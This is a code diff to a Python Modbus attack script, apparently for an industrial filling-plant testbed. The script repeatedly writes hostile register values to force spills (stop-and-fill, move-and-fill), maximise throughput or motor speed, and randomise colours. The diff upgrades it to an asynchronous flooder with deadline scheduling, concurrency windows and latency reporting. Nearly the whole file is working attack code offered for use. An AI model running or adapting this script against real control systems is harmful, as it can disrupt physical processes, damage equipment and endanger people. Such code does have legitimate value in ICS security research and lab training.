@@ -1,8 +1,10 @@
 #!/usr/bin/env python3
 import time
+import asyncio
 import argparse
 import textwrap
 import random
+import numpy as np
 from modbus import COLORS
 
 from modbus import (
@@ -16,7 +18,7 @@ from modbus import (
     REG_COLOR,
     MODBUS_PORT,
 )
-from modbus import ClientModbus as Client
+from modbus import AsyncClientModbus as Client
 from modbus import ConnectionException
 
 parser = argparse.ArgumentParser(
@@ -32,11 +34,14 @@ parser = argparse.ArgumentParser(
         '''))
 parser.add_argument("-i", "--ip", required=False, help="IP", default="127.0.0.1")
 parser.add_argument("-p", "--port", type=int, required=False, help="Port", default=MODBUS_PORT)
+parser.add_argument("-u", "--unit", type=int, required=False, help="Unit id", default=0)
 parser.add_argument("-a", "--attack", type=int, required=False, help="Attack type", default=1)
-parser.add_argument("-f", "--frequency", type=int, required=False, help="Modbus frame frequency (sequence/s)", default=100)
+parser.add_argument("-f", "--frequency", type=float, required=False, help="Modbus frame frequency (sequence/s)", default=100)
+parser.add_argument("-d", "--duration", type=float, required=False, help="Seconds to run before reporting and exiting", default=None)
+parser.add_argument("-w", "--window", type=int, required=False, help="Maximum sequences in flight (always 1 for the color attack)", default=64)
 args = parser.parse_args()
 
-client = Client(args.ip, args.port)
+client = Client(args.ip, args.port, args.unit)
 period = 1/args.frequency
 
 if ( args.attack == 1 ):
@@ -50,48 +55,117 @@ elif ( args.attack == 2):
     level = 0
     contact = 0
 
-try:
-    client.connect()
+# Sequences sent, requests sent, sequence latencies and starts behind schedule
+sent = 0
+frames = 0
+latencies = []
+late = 0
+error = None
+
+async def attack():
+    global frames
+
+    # Stop and fill / Move and fill, adjacent registers share a frame
+    if ( args.attack == 1 or args.attack == 2 ):
+        client.queue(REG_RUN, 1)        # Run Plant, Run!
+        client.queue(REG_LEVEL, level)
+        client.queue(REG_MOTOR_EN, motor)
+        client.queue(REG_NOZZLE, nozzle)
+        client.queue(REG_CONTACT, contact)
+        runs = await client.flush()
+        frames += len(runs)
+        return
+
+    await client.write(REG_RUN, 1)      # Run Plant, Run!
+    frames += 1
+
+    # Max Throughput
+    if ( args.attack == 3 ):
+        await client.write(REG_THROUGHPUT, 20)
+        frames += 1
 
-    while True:
+    # Color mix
+    elif ( args.attack == 4):
+        nozzle_open = await client.read(REG_NOZZLE)
+        frames += 1
+        if ( nozzle_open ):
+            await client.write(REG_COLOR, random.randrange(0, len(COLORS), 1))
+            await client.write(REG_NOZZLE, 0)
+            await asyncio.sleep(period)
+            await client.write(REG_NOZZLE, 1)
+            frames += 3
 
-        client.write(REG_RUN, 1) 	    # Run Plant, Run!
+    # Max speed
+    elif ( args.attack == 5):
+        await client.write(REG_MOTOR_SPEED, 11)
+        frames += 1
 
-        # Stop and fill
-        if ( args.attack == 1 ):
-            client.write(REG_LEVEL, 0) 	    
-            client.write(REG_MOTOR_EN, 0) 	
-            client.write(REG_NOZZLE, 1) 	
-            client.write(REG_CONTACT, 0) 	
+async def timed(slots):
+    global error
 
-        # Move and fill
-        elif ( args.attack == 2 ):
-            client.write(REG_LEVEL, 0) 	    
-            client.write(REG_MOTOR_EN, 1) 	
-            client.write(REG_NOZZLE, 1) 	
-            client.write(REG_CONTACT, 0) 	
+    start = time.perf_counter()
+    try:
+        await attack()
+        latencies.append(time.perf_counter() - start)
+    except ConnectionException as e:
+        error = e
+    finally:
+        slots.release()
 
-        # Max Throughput
-        elif ( args.attack == 3 ):
-            client.write(REG_THROUGHPUT, 20)
+async def flood():
+    """ Start one attack sequence per period on a fixed deadline grid.
 
-        # Color mix
-        elif ( args.attack == 4):
-            nozzle = client.read(REG_NOZZLE)
-            if ( nozzle ):
-                client.write(REG_COLOR, random.randrange(0, len(COLORS), 1))
-                client.write(REG_NOZZLE, 0)
-                time.sleep(period)
-                client.write(REG_NOZZLE, 1)
+    Sequences are not awaited before the next deadline, so slow responses do
+    not stretch the period; at most --window of them are in flight. A late
+    start does not move the grid, the following deadlines catch up. The
+    color attack's open/color/close sequences must not interleave, they
+    run one at a time.
+    """
+    global sent
+    global late
 
-        # Max speed
-        elif ( args.attack == 5):
-            client.write(REG_MOTOR_SPEED, 11)
+    if ( not await client.connect() ):
+        raise ConnectionException
+    loop = asyncio.get_running_loop()
+    slots = asyncio.Semaphore(1 if args.attack == 4 else args.window)
+    tasks = set()
+    start = loop.time()
 
-        time.sleep(period)
+    while ( args.duration is None or sent * period < args.duration ):
+        # Deadlines are computed from the start, sleeps never accumulate drift
+        delay = start + sent * period - loop.time()
+        await asyncio.sleep(max(delay, 0))
+        if ( delay < -period ):
+            late += 1
 
+        await slots.acquire()
+        task = asyncio.create_task(timed(slots))
+        tasks.add(task)
+        task.add_done_callback(tasks.discard)
+        sent += 1
+
+        # Stop on a lost connection instead of queueing more sequences
+        if ( error ):
+            raise error
+
+    await asyncio.gather(*tasks)
+    await client.close()
+    return loop.time() - start
+
+def report(elapsed):
+    print(f"{sent} sequences ({frames} requests) in {elapsed:.2f}s: "
+          f"{sent / elapsed:.1f} sequences/s for {args.frequency:g} targeted, "
+          f"{frames / elapsed:.1f} requests/s, {late} late starts")
+    if ( latencies ):
+        p50, p90, p99, p999 = np.percentile(latencies, [50, 90, 99, 99.9]) * 1000
+        print(f"Latency (ms): min {min(latencies) * 1000:.2f}, p50 {p50:.2f}, p90 {p90:.2f}, "
+              f"p99 {p99:.2f}, p99.9 {p999:.2f}, max {max(latencies) * 1000:.2f}")
+
+start = time.perf_counter()
+try:
+    report(asyncio.run(flood()))
 except KeyboardInterrupt:
-    client.close()
+    report(time.perf_counter() - start)
 except ConnectionException:
-    client.close()
     print ("Unable to connect / Connection lost")
+    report(time.perf_counter() - start)